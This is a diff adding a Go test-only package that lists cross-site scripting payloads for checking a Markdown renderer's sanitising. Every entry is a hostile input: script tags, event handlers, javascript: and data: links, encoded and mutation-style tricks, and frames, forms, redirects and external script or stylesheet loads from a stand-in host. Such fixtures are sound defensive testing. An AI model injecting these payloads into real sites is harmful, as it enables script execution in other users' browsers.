@@ -1,0 +1,47 @@
+// Package xsstest holds the attempts at cross-site scripting that every place rendering what
+// people typed must survive: internal/markdown's tests, and the pages that show Markdown (the
+// bible's articles). It is imported by tests only.
+package xsstest
+
+// Payloads are attempts to make a message run code or load something in a reader's browser.
+var Payloads = []string{
+	`<script>alert(1)</script>`,
+	`<SCRIPT SRC=//evil.exemple/x.js></SCRIPT>`,
+	`<img src=x onerror=alert(1)>`,
+	`<img src="/ok.png" onload="alert(1)">`,
+	`<svg onload=alert(1)>`,
+	`<svg><script>alert(1)</script></svg>`,
+	`<body onload=alert(1)>`,
+	`<a href="javascript:alert(1)">clic</a>`,
+	`[clic](javascript:alert(1))`,
+	`[clic](JaVaScRiPt:alert(1))`,
+	`[clic](java&#x09;script:alert(1))`,
+	`[clic](  javascript:alert(1))`,
+	`[clic](vbscript:msgbox(1))`,
+	`[clic](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)`,
+	`![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)`,
+	`![x](javascript:alert(1))`,
+	`<javascript:alert(1)>`,
+	`[clic](https://exemple.fr "titre\" onmouseover=\"alert(1)")`,
+	`<p style="background:url(javascript:alert(1))">stylé</p>`,
+	`<div style="position:fixed;inset:0">plein écran</div>`,
+	`<iframe src="https://evil.exemple"></iframe>`,
+	`<iframe srcdoc="<script>alert(1)</script>">`,
+	`<object data="evil.swf"></object><embed src="evil.swf">`,
+	`<form action="https://evil.exemple"><input name=x><button>OK</button></form>`,
+	`<meta http-equiv="refresh" content="0;url=https://evil.exemple">`,
+	`<base href="https://evil.exemple/">`,
+	`<link rel=stylesheet href=https://evil.exemple/x.css>`,
+	`<style>body{display:none}</style>`,
+	`<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>`,
+	`<img src=x onerror=alert(1)`,
+	`<script>alert(1)`,
+	`<a href="https://exemple.fr" onclick="alert(1)">lien</a>`,
+	`<details open ontoggle=alert(1)>`,
+	`<video><source onerror=alert(1)></video>`,
+	"```html\n<script>alert(1)</script>\n```",
+	`<!--><img src=x onerror=alert(1)>-->`,
+	`<noscript><p title="</noscript><img src=x onerror=alert(1)>">`,
+	`[x](https://exemple.fr){onclick=alert(1)}`,
+	`<input type="checkbox" onfocus="alert(1)" autofocus>`,
+}
